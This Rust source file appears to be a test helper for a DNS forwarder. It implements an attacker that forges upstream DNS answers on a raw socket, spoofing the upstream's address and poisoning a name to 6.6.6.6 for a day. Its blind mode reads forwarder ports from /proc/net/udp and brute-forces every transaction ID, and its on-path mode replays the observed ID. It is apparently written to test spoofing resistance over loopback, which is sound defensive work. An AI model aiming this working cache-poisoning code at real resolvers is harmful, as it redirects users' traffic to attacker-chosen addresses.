//! An attacker that forges upstream answers: IPv4/UDP datagrams built by hand and sent
//! on a raw socket, with the upstream's address and port as their source.
//!
//! What it may know is a [`Knowledge`]: a blind (off-path) attacker finds the
//! forwarder's upstream-side ports as any local user can, in `/proc/net/udp`, and tries
//! every transaction ID in turn on every port; an on-path attacker is told each query
//! the upstream receives (ID, question with its letter case, source port) and sends one
//! answer. Everything else, from the packet to the send loop, is the same code.
use std::fs;
use std::net::{IpAddr, Ipv4Addr, SocketAddr, SocketAddrV4};
use std::sync::mpsc::Receiver;
use std::time::Instant;

use dnsfwd::wire::parse_message;
use socket2::{Domain, Protocol, SockAddr, Socket, Type};

/// The address every forged answer gives for the name.
pub const POISON: Ipv4Addr = Ipv4Addr::new(6, 6, 6, 6);
/// The TTL of the forged record: a day in the cache.
const POISON_TTL: u32 = 86_400;
/// IPPROTO_RAW: a send-only raw socket that implies IP_HDRINCL (unlike IPPROTO_UDP, it
/// is not handed a copy of every UDP datagram on the host, our own included).
const IPPROTO_RAW: i32 = 255;
/// Where the forwarder's upstream sockets receive: the tests run over loopback.
const FORWARDER_IP: Ipv4Addr = Ipv4Addr::LOCALHOST;
/// How often (in packets) the send loop looks at the clock and asks whether to stop.
const CHECK_EVERY: usize = 64;

const IPV4_HEADER_LEN: usize = 20;
const UDP_HEADER_LEN: usize = 8;
/// Offsets of the fields patched per packet.
const UDP_DST_PORT_AT: usize = IPV4_HEADER_LEN + 2;
const DNS_ID_AT: usize = IPV4_HEADER_LEN + UDP_HEADER_LEN;

/// A query as the upstream received it.
#[derive(Debug, Clone)]
pub struct Observed {
    /// Where it came from: the forwarder's socket.
    pub from: SocketAddr,
    /// Its exact octets.
    pub query: Vec<u8>,
}

/// What the attacker knows about the forwarder's queries to the upstream.
pub enum Knowledge {
    /// Nothing but the local socket table: ports, not IDs, not the question's case.
    Blind,
    /// Every query the upstream receives, as it receives it.
    OnPath(Receiver<Observed>),
}

/// What one attack on one name did.
#[derive(Debug, Clone, Copy, Default)]
pub struct Volley {
    /// Forged datagrams sent.
    pub sent: u64,
    /// Ports aimed at.
    pub ports: usize,
}

/// The attacker: a raw socket, the upstream it pretends to be, and what it knows.
pub struct Forger {
    raw: Socket,
    upstream: SocketAddrV4,
    knowledge: Knowledge,
    rng: u64,
}

impl Forger {
    /// Panics, saying why, if a raw socket cannot be opened (it needs root or
    /// CAP_NET_RAW; CI runs the tests as root).
    pub fn new(upstream: SocketAddr, knowledge: Knowledge) -> Forger {
        let SocketAddr::V4(upstream) = upstream else {
            panic!("the forger speaks IPv4 only, not to {upstream}");
        };
        let raw = Socket::new(Domain::IPV4, Type::RAW, Some(Protocol::from(IPPROTO_RAW)))
            .unwrap_or_else(|e| {
                panic!(
                    "the forgery tests need root (CAP_NET_RAW) to open a raw socket, as in CI: {e}"
                )
            });
        raw.set_header_included_v4(true).unwrap();
        Forger {
            raw,
            upstream,
            knowledge,
            rng: 0x9E37_79B9_7F4A_7C15,
        }
    }

    /// Attacks the answer to `query` (sent by the attacker, as a client, just before):
    /// sends forged answers until `answered()` says the client has its answer, or
    /// `until`. The question in the forgeries is spelled as `query` spells it unless the
    /// attacker saw the forwarder's own spelling.
    pub fn attack(
        &mut self,
        query: &[u8],
        until: Instant,
        mut answered: impl FnMut() -> bool,
    ) -> Volley {
        let (question, ports, shots) = self.aim(query, until);
        let mut packet = forged_datagram(self.upstream, &question);
        let to = SockAddr::from(SocketAddrV4::new(FORWARDER_IP, 0));
        let mut sent = 0;
        for (n, (port, id)) in shots.enumerate() {
            if n % CHECK_EVERY == 0 && (Instant::now() >= until || answered()) {
                break;
            }
            packet[UDP_DST_PORT_AT..][..2].copy_from_slice(&port.to_be_bytes());
            packet[DNS_ID_AT..][..2].copy_from_slice(&id.to_be_bytes());
            if self.raw.send_to(&packet, &to).is_ok() {
                sent += 1;
            }
        }
        Volley { sent, ports }
    }

    /// The question to forge, how many ports are aimed at, and the (port, ID) pairs to
    /// try in order: the only place where what the attacker knows matters.
    fn aim(&mut self, query: &[u8], until: Instant) -> (Vec<u8>, usize, Shots) {
        match &self.knowledge {
            Knowledge::Blind => {
                let ports: Vec<u16> = upstream_sockets(self.upstream)
                    .iter()
                    .map(|s| s.port)
                    .collect();
                let n = ports.len();
                let first_id = self.next_random() as u16;
                // ID-major: each ID on every port, then the next ID; one sweep of every
                // (port, ID) pair at most.
                let shots = (0..n * 65536)
                    .map(move |k| (ports[k % n], first_id.wrapping_add((k / n) as u16)));
                (question_octets(query).to_vec(), n, Box::new(shots))
            }
            Knowledge::OnPath(seen) => match wait_for_query(seen, query, until) {
                Some(o) => {
                    let shot = (o.from.port(), u16::from_be_bytes([o.query[0], o.query[1]]));
                    let question = question_octets(&o.query).to_vec();
                    (question, 1, Box::new(std::iter::once(shot)))
                }
                None => (Vec::new(), 0, Box::new(std::iter::empty())),
            },
        }
    }

    fn next_random(&mut self) -> u64 {
        self.rng ^= self.rng << 13;
        self.rng ^= self.rng >> 7;
        self.rng ^= self.rng << 17;
        self.rng
    }
}

type Shots = Box<dyn Iterator<Item = (u16, u16)>>;

/// The forwarder's query for the same name as `query` (compared without regard to
/// case), waiting for it until `until`; earlier names' queries are skipped.
fn wait_for_query(seen: &Receiver<Observed>, query: &[u8], until: Instant) -> Option<Observed> {
    let ours = parse_message(query).unwrap().questions[0].qname.clone();
    loop {
        let left = until.checked_duration_since(Instant::now())?;
        let o = seen.recv_timeout(left).ok()?;
        let same = parse_message(&o.query)
            .is_ok_and(|m| m.questions.first().is_some_and(|q| q.qname == ours));
        if same {
            return Some(o);
        }
    }
}

/// The question section of a query (one question, no compression): its name, type
/// and class octets, exactly as written.
pub fn question_octets(msg: &[u8]) -> &[u8] {
    let mut end = 12;
    while msg[end] != 0 {
        end += 1 + usize::from(msg[end]);
    }
    &msg[12..end + 5]
}

/// A forged answer from `upstream` as an IPv4 datagram, destination port and DNS ID
/// still 0: QR, RD and RA set, `question`, and one A record [`POISON`] for the name.
fn forged_datagram(upstream: SocketAddrV4, question: &[u8]) -> Vec<u8> {
    #[rustfmt::skip]
    let mut dns = vec![
        0, 0,       // id, patched per packet
        0x81, 0x80, // QR, opcode 0, RD; RA, rcode 0
        0, 1,       // qdcount
        0, 1,       // ancount
        0, 0, 0, 0, // nscount, arcount
    ];
    dns.extend_from_slice(question);
    dns.extend_from_slice(&[0xC0, 12, 0, 1, 0, 1]); // the question's name, A, IN
    dns.extend_from_slice(&POISON_TTL.to_be_bytes());
    dns.extend_from_slice(&[0, 4]);
    dns.extend_from_slice(&POISON.octets());
    let udp_len = (UDP_HEADER_LEN + dns.len()) as u16;
    let total_len = IPV4_HEADER_LEN as u16 + udp_len;
    let (src, dst) = (upstream.ip().octets(), FORWARDER_IP.octets());
    #[rustfmt::skip]
    let mut packet = vec![
        0x45, 0,                       // version 4, IHL 5; TOS
        (total_len >> 8) as u8, total_len as u8,
        0, 0, 0x40, 0,                 // identification 0 (the kernel picks one); DF
        64, 17, 0, 0,                  // TTL, protocol UDP, checksum (below)
        src[0], src[1], src[2], src[3],
        dst[0], dst[1], dst[2], dst[3],
    ];
    let checksum = ipv4_checksum(&packet);
    packet[10..12].copy_from_slice(&checksum.to_be_bytes());
    packet.extend_from_slice(&upstream.port().to_be_bytes());
    packet.extend_from_slice(&[0, 0]); // destination port, patched per packet
    packet.extend_from_slice(&udp_len.to_be_bytes());
    packet.extend_from_slice(&[0, 0]); // no UDP checksum (allowed over IPv4)
    packet.extend_from_slice(&dns);
    packet
}

/// The Internet checksum of an IPv4 header whose checksum field is 0 (RFC 791, 1071).
fn ipv4_checksum(header: &[u8]) -> u16 {
    let mut sum: u32 = header
        .chunks(2)
        .map(|w| u32::from(u16::from_be_bytes([w[0], w[1]])))
        .sum();
    while sum > 0xFFFF {
        sum = (sum & 0xFFFF) + (sum >> 16);
    }
    !(sum as u16)
}

/// A UDP socket of this host connected to the upstream, as `/proc/net/udp` shows it.
#[derive(Debug, Clone, Copy)]
pub struct UdpEntry {
    /// Its local port.
    pub port: u16,
    /// Octets waiting to be read.
    pub rx_queue: u64,
    /// Datagrams the kernel dropped (receive buffer full).
    pub drops: u64,
}

/// Every UDP socket whose remote address is `upstream`, IPv4 or IPv4-mapped IPv6: the
/// forwarder's upstream sockets, as a local attacker finds them.
pub fn upstream_sockets(upstream: SocketAddrV4) -> Vec<UdpEntry> {
    ["/proc/net/udp", "/proc/net/udp6"]
        .iter()
        .filter_map(|path| fs::read_to_string(path).ok())
        .flat_map(|table| {
            table
                .lines()
                .skip(1)
                .filter_map(|line| parse_udp_line(line, upstream))
                .collect::<Vec<_>>()
        })
        .collect()
}

/// One line of `/proc/net/udp{,6}`: `sl local rem st tx_queue:rx_queue tr:tm retrnsmt
/// uid timeout inode ref pointer drops`, addresses in hex as the kernel stores them.
pub fn parse_udp_line(line: &str, upstream: SocketAddrV4) -> Option<UdpEntry> {
    let fields: Vec<&str> = line.split_whitespace().collect();
    let (_, port) = parse_hex_addr(fields.get(1)?)?;
    let (ip, remote_port) = parse_hex_addr(fields.get(2)?)?;
    let to_upstream = match ip {
        IpAddr::V4(ip) => ip == *upstream.ip(),
        IpAddr::V6(ip) => ip.to_ipv4_mapped() == Some(*upstream.ip()),
    };
    if !to_upstream || remote_port != upstream.port() {
        return None;
    }
    let (_, rx) = fields.get(4)?.split_once(':')?;
    Some(UdpEntry {
        port,
        rx_queue: u64::from_str_radix(rx, 16).ok()?,
        drops: fields.get(12)?.parse().ok()?,
    })
}

/// `0100007F:0035` (IPv4) or 32 hex digits and a port (IPv6). Each 32-bit word is
/// printed as the number its network-order octets make in host order.
fn parse_hex_addr(field: &str) -> Option<(IpAddr, u16)> {
    let (ip, port) = field.split_once(':')?;
    let port = u16::from_str_radix(port, 16).ok()?;
    let octets: Vec<u8> = (0..ip.len() / 8)
        .map(|i| u32::from_str_radix(ip.get(i * 8..i * 8 + 8)?, 16).ok())
        .collect::<Option<Vec<u32>>>()?
        .into_iter()
        .flat_map(u32::to_ne_bytes)
        .collect();
    let ip = match octets.len() {
        4 => IpAddr::from(<[u8; 4]>::try_from(octets).ok()?),
        16 => IpAddr::from(<[u8; 16]>::try_from(octets).ok()?),
        _ => return None,
    };
    Some((ip, port))
}
